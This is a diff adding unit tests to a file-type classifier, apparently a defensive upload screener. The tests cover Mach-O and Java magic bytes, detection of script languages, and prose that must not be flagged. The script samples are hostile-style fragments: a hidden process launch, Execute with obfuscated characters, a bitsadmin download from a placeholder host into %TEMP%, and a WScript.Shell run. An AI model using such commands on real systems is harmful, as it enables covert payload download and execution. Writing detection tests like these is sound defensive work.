@@ -136,3 +136,36 @@ def test_dicom_with_preamble_and_raw_dataset() -> None:
 def test_empty_and_random_bytes() -> None:
     assert kind(b"") == ("empty", "unknown")
     assert kind(photo())[0] == "jpeg"
+
+
+def test_fat_macho_and_java_class_share_cafebabe() -> None:
+    fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + struct.pack(">5I", 7, 3, 4096, 8192, 12)
+    assert kind(fat + bytes(100)) == ("macho", "executable")
+    assert kind(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)) == ("java_class", "executable")
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (b"$c = [Convert]::FromBase64String('AAAA')\r\n", "powershell"),
+        (b"Start-Process -WindowStyle Hidden cmd.exe\r\n", "powershell"),
+        (b"On Error Resume Next\r\nExecute(Chr(77) & Chr(115))\r\n", "vbs"),
+        (b"set p=%TEMP%\\a.exe\r\nbitsadmin /transfer j http://x.invalid/a %p%\r\n", "batch"),
+        (b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');", "js"),
+    ],
+)
+def test_scripts_recognised_by_the_shared_tokens(text: bytes, expected: str) -> None:
+    assert kind(text) == (expected, "script")
+
+
+@pytest.mark.parametrize(
+    "prose",
+    [
+        b"Set up the chair.\nStart the scanner.\nCall the patient.\n",
+        b"Dim lighting, please.\nSub total (2 items) paid.\n",
+        b"Allergy alert (penicillin) - see chart before treatment.\n",
+        b"Post-op wound eval(day 3), healing well.\n",
+    ],
+)
+def test_prose_with_script_words_is_text(prose: bytes) -> None:
+    assert kind(prose) == ("text", "text")
